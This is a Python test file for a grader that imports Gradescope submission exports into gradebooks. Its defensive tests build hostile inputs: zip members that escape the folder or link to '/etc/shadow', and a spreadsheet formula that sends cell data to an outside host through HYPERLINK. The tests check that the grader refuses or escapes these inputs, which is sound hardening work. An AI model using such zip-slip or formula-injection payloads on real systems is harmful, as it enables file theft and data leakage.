"""Gradescope's "Export Submissions" as input: identities, odd folders, unsafe or damaged zips.

`export_folder` builds an export the way Gradescope lays it out (one `submission_<id>` folder per
submission, `submission_metadata.yml` with Ruby-style keys naming the submitters). The reading
tests need no kernel; `test_grades_an_export_into_a_gradebook_with_identities` grades one through
the real grader (two notebooks in kernels, the rest need none).
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import stat
import zipfile
from pathlib import Path

import pytest

from mnist_grader import batch, gradescope_export
from mnist_grader.assign import NOTEBOOK_NAME
from tests import bank

CASES = {case.name: case for case in bank.ALL_CASES}

PDF = b"%PDF-1.5\n% not really a PDF, but it does not need to be\n"
# What Gradescope writes (one entry shown in its help and in tools reading the export):
# folder name -> :submitters (name, sid, email), :created_at, :score, :history.
METADATA = """\
submission_1001:
  :submitters:
  - :name: Ada Lovelace
    :sid: '1001'
    :email: ada@example.edu
  :created_at: 2026-11-20 10:00:00.000000000 -08:00
  :score: 0.0
  :history: []
submission_1002:
  :submitters:
  - :name: Grace Hopper
    :sid: 1002
    :email: grace@example.edu
  :created_at: 2026-11-20 11:00:00.000000000 -08:00
  :score: 0.0
submission_1003:
  :submitters:
  - :name: Alan Turing
    :sid: '1003'
    :email: alan@example.edu
  - :name: Alonzo Church
    :sid: '1004'
    :email: alonzo@example.edu
submission_1005:
  :submitters:
  - :name: Edsger Dijkstra
    :sid: '1005'
    :email: edsger@example.edu
submission_1007:
  :submitters:
  - :name: Barbara Liskov
    :sid: '1007'
    :email: barbara@example.edu
submission_1008:
  :submitters:
  - :name: Donald Knuth
    :sid: '1008'
    :email: don@example.edu
"""


def export_zip_of(notebook: bytes) -> bytes:
    """What the notebook's export cell makes: the notebook and its PDF in one zip."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(NOTEBOOK_NAME, notebook)
        archive.writestr("mnist_first_steps.pdf", PDF)
    return buffer.getvalue()


def export_folder(root: Path, good: bytes, wrong: bytes) -> Path:
    """A realistic export: Ada uploaded her notebook and her PDF (two files, and a second copy
    of the notebook); Grace the export cell's zip; Alan and Alonzo (a group) a notebook cut
    short; Edsger only the PDF; submission_1006 is a folder the metadata does not name;
    Barbara is named but has no folder; Donald uploaded a notebook that is not UTF-8."""
    root.mkdir(parents=True)
    (root / gradescope_export.METADATA_NAME).write_text(METADATA)
    folders = {
        "submission_1001": {
            NOTEBOOK_NAME: good,
            "mnist_first_steps.pdf": PDF,
            "mnist_first_steps (copy).ipynb": wrong,
        },
        "submission_1002": {"mnist_first_steps.zip": export_zip_of(wrong)},
        "submission_1003": {NOTEBOOK_NAME: good[: len(good) // 2]},
        "submission_1005": {"mnist_first_steps.pdf": PDF},
        "submission_1006": {NOTEBOOK_NAME: good},
        "submission_1008": {NOTEBOOK_NAME: b"\xff\xfe" + good},
    }
    for folder, files in folders.items():
        (root / folder).mkdir()
        for name, data in files.items():
            (root / folder / name).write_bytes(data)
    return root


def zip_folder(folder: Path, target: Path, inside: str = "assignment_4242_export") -> Path:
    """The folder zipped as macOS's Finder would (it adds __MACOSX/ with "._" files)."""
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(f"__MACOSX/{inside}/submission_1001/._{NOTEBOOK_NAME}", b"\x00\x05")
        for path in sorted(folder.rglob("*")):
            if path.is_file():
                archive.write(path, f"{inside}/{path.relative_to(folder)}")
    return target


@pytest.fixture
def notebooks(bank_dir) -> tuple[bytes, bytes]:
    return (
        (bank_dir / "passes_all.ipynb").read_bytes(),
        (bank_dir / "fails_q4b_label_length_10.ipynb").read_bytes(),
    )


def by_name(entries):
    return {entry.name: entry for entry in entries}


def check_entries(entries) -> None:
    found = by_name(entries)
    assert list(found) == [f"submission_{n}" for n in range(1001, 1009) if n != 1004]
    ada = found["submission_1001"]
    assert [p.name for p in ada.submitters] == ["Ada Lovelace"]
    assert ada.submitters[0].email == "ada@example.edu" and ada.submitters[0].sid == "1001"
    assert ada.notebook.name == NOTEBOOK_NAME  # the assignment's name first, as on Gradescope
    assert "also holds" in ada.note and "(copy)" in ada.note
    grace = found["submission_1002"]
    assert grace.notebook.name == "mnist_first_steps.zip" and grace.submitters[0].sid == "1002"
    group = found["submission_1003"]
    assert [p.sid for p in group.submitters] == ["1003", "1004"]
    assert group.notebook is not None
    edsger = found["submission_1005"]
    assert edsger.notebook is None and edsger.status == gradescope_export.NO_NOTEBOOK
    assert "mnist_first_steps.pdf" in edsger.reason
    stray = found["submission_1006"]
    assert stray.submitters == [] and "not named" in stray.note and stray.notebook is not None
    barbara = found["submission_1007"]
    assert barbara.status == gradescope_export.MISSING_FOLDER and barbara.notebook is None
    assert barbara.submitters[0].name == "Barbara Liskov"


def test_reads_an_unpacked_export(tmp_path, notebooks):
    root = export_folder(tmp_path / "export", *notebooks)
    assert gradescope_export.is_export(root)
    entries, notes = gradescope_export.open_export(root, tmp_path / "work")
    check_entries(entries)
    assert notes == []


def test_reads_the_export_zip_the_same_way(tmp_path, notebooks):
    archive = zip_folder(export_folder(tmp_path / "export", *notebooks), tmp_path / "e.zip")
    assert gradescope_export.is_export(archive)
    entries, notes = gradescope_export.open_export(archive, tmp_path / "work")
    check_entries(entries)
    assert notes == []
    # the PDF is listed by name but not unpacked: grading never needs it
    pdf = tmp_path / "work/export/assignment_4242_export/submission_1005/mnist_first_steps.pdf"
    assert pdf.exists() and pdf.stat().st_size == 0


def test_a_plain_folder_and_a_students_zip_are_not_exports(tmp_path, notebooks):
    (tmp_path / "plain").mkdir()
    (tmp_path / "plain" / "a.ipynb").write_bytes(notebooks[0])
    assert not gradescope_export.is_export(tmp_path / "plain")
    student_zip = tmp_path / "mnist_first_steps.zip"
    student_zip.write_bytes(export_zip_of(notebooks[0]))
    assert not gradescope_export.is_export(student_zip)


def test_no_metadata_grades_the_folders_without_identities(tmp_path, notebooks):
    root = export_folder(tmp_path / "export", *notebooks)
    (root / gradescope_export.METADATA_NAME).unlink()
    assert gradescope_export.is_export(root)  # the submission_<id> folders say so
    entries, notes = gradescope_export.open_export(root, tmp_path / "work")
    assert [e.name for e in entries] == [
        f"submission_{n}" for n in (1001, 1002, 1003, 1005, 1006, 1008)
    ]
    assert all(e.submitters == [] for e in entries)
    assert notes == [f"no {gradescope_export.METADATA_NAME}: submissions graded without names, "
                     "emails or SIDs"]  # fmt: skip


def test_unreadable_metadata_is_said_and_the_folders_still_graded(tmp_path, notebooks):
    root = export_folder(tmp_path / "export", *notebooks)
    (root / gradescope_export.METADATA_NAME).write_text("submission_1001:\n  - [unclosed\n")
    entries, notes = gradescope_export.open_export(root, tmp_path / "work")
    assert len(entries) == 6 and "could not be read" in notes[0]


def test_a_damaged_export_zip_stops_with_a_clear_message(tmp_path, notebooks):
    archive = zip_folder(export_folder(tmp_path / "export", *notebooks), tmp_path / "e.zip")
    data = archive.read_bytes()
    archive.write_bytes(data[: len(data) // 3])  # a download cut short: no central directory
    assert not gradescope_export.is_export(archive)  # so it is graded as one (unreadable) file
    with pytest.raises(gradescope_export.BadExport, match="not a readable zip"):
        gradescope_export.open_export(archive, tmp_path / "work")


def test_unsafe_and_damaged_members_are_not_unpacked(tmp_path, notebooks):
    archive = tmp_path / "hostile.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr(gradescope_export.METADATA_NAME, METADATA)
        out.writestr("../escaped.ipynb", notebooks[0])
        out.writestr("/absolute.ipynb", notebooks[0])
        link = zipfile.ZipInfo("submission_1001/" + NOTEBOOK_NAME)
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        out.writestr(link, "/etc/shadow")
        out.writestr("submission_1002/" + NOTEBOOK_NAME, notebooks[0])
        out.writestr("submission_1003/" + NOTEBOOK_NAME, notebooks[1])
    # damage the compressed bytes of submission_1002's notebook: its CRC no longer matches
    data = bytearray(archive.read_bytes())
    with zipfile.ZipFile(archive) as read:
        member = read.getinfo("submission_1002/" + NOTEBOOK_NAME)
    start = member.header_offset + 30 + len(member.filename.encode()) + len(member.extra)
    for offset in range(start + 10, start + 60):
        data[offset] ^= 0xFF
    archive.write_bytes(bytes(data))

    work = tmp_path / "work"
    entries, notes = gradescope_export.open_export(archive, work)
    assert not (tmp_path / "escaped.ipynb").exists() and not Path("/absolute.ipynb").exists()
    assert any("outside the export" in note for note in notes)
    assert any("symbolic link" in note for note in notes)
    assert any("damaged" in note for note in notes)
    assert not any(p.is_symlink() for p in work.rglob("*"))
    found = by_name(entries)
    assert found["submission_1001"].status == "unreadable"
    assert "symbolic link" in found["submission_1001"].reason
    assert found["submission_1002"].status == "unreadable"
    assert "damaged" in found["submission_1002"].reason
    assert found["submission_1003"].notebook.read_bytes() == notebooks[1]


def test_a_member_over_the_limit_is_cut_at_the_limit(tmp_path, monkeypatch):
    monkeypatch.setattr(gradescope_export, "MAX_NOTEBOOK_BYTES", 1000)
    archive = tmp_path / "big.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("submission_1/" + NOTEBOOK_NAME, b"{" + b" " * 10**7 + b"}")
    entries, _ = gradescope_export.open_export(archive, tmp_path / "work")
    assert entries[0].notebook.stat().st_size == 1001  # the notebook reader then refuses it


def test_grades_an_export_into_a_gradebook_with_identities(tmp_path, notebooks, settings):
    archive = zip_folder(export_folder(tmp_path / "export", *notebooks), tmp_path / "export.zip")
    shutil.rmtree(tmp_path / "export")
    out = tmp_path / "grades"
    batch.grade_batch(archive, out, settings, jobs=2, progress=False)

    with (out / "gradebook.csv").open() as handle:
        rows = {row["file"].split("/")[0]: row for row in csv.DictReader(handle)}
    assert list(next(iter(rows.values()))) == [
        "file", "name", "email", "sid", "total", "q4a", "q4b", "q4c", "q4d", "q5", "q6",
        "status", "note",
    ]  # fmt: skip
    full = sum(bank.FULL_MARKS.values())
    label_length_10 = sum(bank.expected_scores(CASES["fails_q4b_label_length_10"]).values())
    expected = {  # folder: (name, sid, total, status)
        "submission_1001": ("Ada Lovelace", "1001", full, "graded"),
        "submission_1002": ("Grace Hopper", "1002", label_length_10, "graded"),
        "submission_1003": ("Alan Turing; Alonzo Church", "1003; 1004", 0, "unreadable"),
        "submission_1005": ("Edsger Dijkstra", "1005", 0, "no notebook"),
        "submission_1006": ("", "", full, "graded"),
        "submission_1007": ("Barbara Liskov", "1007", 0, "missing folder"),
        "submission_1008": ("Donald Knuth", "1008", 0, "unreadable"),
    }
    got = {
        folder: (row["name"], row["sid"], float(row["total"]), row["status"])
        for folder, row in rows.items()
    }
    assert got == expected
    assert rows["submission_1001"]["file"] == f"submission_1001/{NOTEBOOK_NAME}"
    assert rows["submission_1002"]["file"] == "submission_1002/mnist_first_steps.zip"
    assert "not named" in rows["submission_1006"]["note"]
    assert "no folder" in rows["submission_1007"]["note"]
    edsger = json.loads((out / "submission_1005" / "results.json").read_text())
    assert "No notebook in this submission (it holds: mnist_first_steps.pdf)" in edsger["output"]
    donald = json.loads((out / "submission_1008" / "results.json").read_text())
    assert "not UTF-8" in donald["output"]

    with (out / "gradescope_scores.csv").open() as handle:
        scores = list(csv.DictReader(handle))
    assert list(scores[0]) == ["Name", "SID", "Email", "Total Score", "Max Points", "Status"]
    by_sid = {row["SID"]: row for row in scores}
    assert set(by_sid) == {"1001", "1002", "1003", "1004", "1005", "1007", "1008"}
    assert by_sid["1004"]["Name"] == "Alonzo Church" and by_sid["1004"]["Total Score"] == "0"
    assert float(by_sid["1002"]["Total Score"]) == label_length_10
    assert float(by_sid["1002"]["Max Points"]) == full
    assert by_sid["1001"]["Email"] == "ada@example.edu"
    with (out / "canvas_scores.csv").open() as handle:
        canvas = list(csv.DictReader(handle))
    assert list(canvas[0])[:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    assert {row["SIS User ID"] for row in canvas} == set(by_sid)

    report = json.loads((out / "report.json").read_text())
    assert report["submissions"] == 7 and report["graded"] == 3
    statuses = {s: [m["who"] for m in members] for s, members in report["statuses"].items()}
    assert statuses["no notebook"] == ["Edsger Dijkstra"]
    assert statuses["missing folder"] == ["Barbara Liskov"]
    q4b = next(q for q in report["questions"] if q["name"] == "q4b")
    wrong = [g for check in q4b["checks"] for g in check["wrong_results"]]
    groups = [(g["got"], [m["who"] for m in g["submissions"]]) for g in wrong]
    assert ("(10,)", ["Grace Hopper"]) in groups  # the public check; the hidden one too
    assert all(who == ["Grace Hopper"] for _, who in groups), groups


def test_a_students_upload_is_never_taken_for_an_export(tmp_path, settings):
    """On Gradescope one upload is graded as one submission, whatever its zip holds."""
    crafted = tmp_path / "mnist_first_steps.zip"
    with zipfile.ZipFile(crafted, "w") as archive:
        archive.writestr(gradescope_export.METADATA_NAME, METADATA)
        archive.writestr("submission_1001/notes.txt", "no notebook here")
    assert gradescope_export.is_export(crafted)
    out = tmp_path / "out"
    rows = batch.grade_batch(crafted, out, settings, progress=False, exports=False)
    assert [(row["file"], row["status"]) for row in rows] == [(crafted.name, "unreadable")]
    assert "exactly one notebook" in (out / "mnist_first_steps" / "results.json").read_text()


def test_a_member_that_cannot_be_written_is_said_and_the_rest_unpacked(tmp_path, notebooks):
    archive = tmp_path / "clash.zip"
    with zipfile.ZipFile(archive, "w") as out:
        out.writestr("submission_1/" + NOTEBOOK_NAME, notebooks[0])
        out.writestr(f"submission_1/{NOTEBOOK_NAME}/inside.ipynb", notebooks[1])
        out.writestr("submission_2/" + NOTEBOOK_NAME, notebooks[1])
    entries, notes = gradescope_export.open_export(archive, tmp_path / "work")
    assert len(notes) == 2 and "could not be unpacked (File exists)" in notes[0]
    assert [e.notebook.read_bytes() for e in entries] == list(notebooks)


def test_text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path):
    """A name or file name is the student's own text: one starting like a formula (=, +, -, @)
    reaches every CSV with a leading apostrophe, so a spreadsheet shows it and does not run it;
    scores and ordinary text are written as they are."""
    from mnist_grader import results

    formula = '=HYPERLINK("http://example.com/?"&A1,"open")'
    graded = {
        "tests": [{"name": "q4a", "score": 2, "max_score": 2}],
        "score": 2,
        "extra_data": {
            "submission": "+cmd.ipynb",
            "status": "graded",
            "note": "@SUM(1,1)",
            "submitters": [{"name": formula, "sid": "-1", "email": "ada@example.edu"}],
        },
    }
    row = results.gradebook_row(graded, ["q4a"], identity_columns=True)
    results.write_gradebook([row], ["q4a"], tmp_path / "gradebook.csv", identity_columns=True)
    results.write_score_uploads([graded], tmp_path)

    with (tmp_path / "gradebook.csv").open() as handle:
        (book,) = csv.DictReader(handle)
    assert (book["file"], book["name"], book["sid"], book["note"]) == (
        "'+cmd.ipynb",
        "'" + formula,
        "'-1",
        "'@SUM(1,1)",
    )
    assert (book["email"], book["total"], book["q4a"], book["status"]) == (
        "ada@example.edu",
        "2",
        "2",
        "graded",
    )
    with (tmp_path / "gradescope_scores.csv").open() as handle:
        (scores,) = csv.DictReader(handle)
    assert (scores["Name"], scores["SID"], scores["Email"], scores["Total Score"]) == (
        "'" + formula,
        "'-1",
        "ada@example.edu",
        "2",
    )
    with (tmp_path / "canvas_scores.csv").open() as handle:
        (canvas,) = csv.DictReader(handle)
    assert (canvas["Student"], canvas["SIS User ID"]) == ("'" + formula, "'-1")
